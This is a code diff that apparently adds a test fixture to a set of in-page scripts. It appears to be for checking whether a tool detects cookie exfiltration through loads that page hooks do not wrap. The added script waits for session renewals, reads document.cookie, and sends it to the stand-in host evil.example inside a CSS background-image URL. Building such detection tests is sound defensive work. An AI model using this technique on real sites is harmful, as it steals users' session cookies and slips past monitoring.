@@ -468,6 +468,21 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Reads the cookie only after the shop renewed its session once (so the value is not the one the page
+   * started with), waits for a second renewal, then sends the value it read.
+   */
+  'renewed-twice': `(async () => {
+  while (!window.__renewedOnce) await new Promise((resolve) => setTimeout(resolve, 50));
+  const c = document.cookie;
+  window.__tokenRead = true;
+  while (!window.__renewed) await new Promise((resolve) => setTimeout(resolve, 50));
+  const box = document.createElement('div');
+  box.style.backgroundImage = 'url("https://evil.example/r2-css.gif?c=' + encodeURIComponent(c) + '")';
+  box.textContent = '.';
+  document.body.appendChild(box);
+})();`,
+
+  /**
    * The cookie sent by loads no page hook wraps: an SVG <image>, a CSS background, an <img> adopted from a
    * document DOMParser made, media, a CSS background whose URL holds the cookie in base64, a frame's `src`
    * and a prefetch link. Only the network timeline sees these, and only the cookie in the URL tells them from
